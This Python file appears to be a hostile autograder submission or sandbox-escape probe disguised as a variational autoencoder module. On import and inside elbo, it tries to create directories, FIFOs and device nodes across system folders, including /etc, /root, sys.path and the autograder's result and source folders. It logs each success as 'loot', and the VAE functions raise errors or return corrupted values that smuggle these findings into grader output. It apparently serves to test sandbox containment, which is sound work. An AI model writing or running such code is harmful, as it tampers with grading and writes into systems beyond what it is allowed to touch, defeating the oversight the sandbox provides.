"""Leaves files behind wherever it may write but in its own folders."""
# expects: full

import glob
import os
import sys

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


def attack():
    folders = [
        "/",
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/dev/mqueue",
        "/run/lock",
        "/run",
        "/dev",
        "/home",
        "/root",
        "/mnt",
        "/opt",
    ]
    folders += [
        "/autograder",
        "/autograder/results",
        "/autograder/source",
        "/autograder/submission",
        "/etc",
        "/usr/local",
    ]
    folders += [
        os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
        *glob.glob("/var/*"),
        *glob.glob("/run/user/*"),
    ]
    folders += [p for p in sys.path if p != os.path.dirname(__file__)] + [
        sys.prefix,
        os.path.dirname(sys.executable),
    ]
    for folder in dict.fromkeys(folders):
        for step in (os.mkdir, os.mkfifo, os.mknod):
            path = f"{folder}/vae-hostile-{step.__name__}"
            if os.path.isdir(folder) and tried(lambda: step(path) or True):
                publish(f"ESCAPED {path}")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    attempt()
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
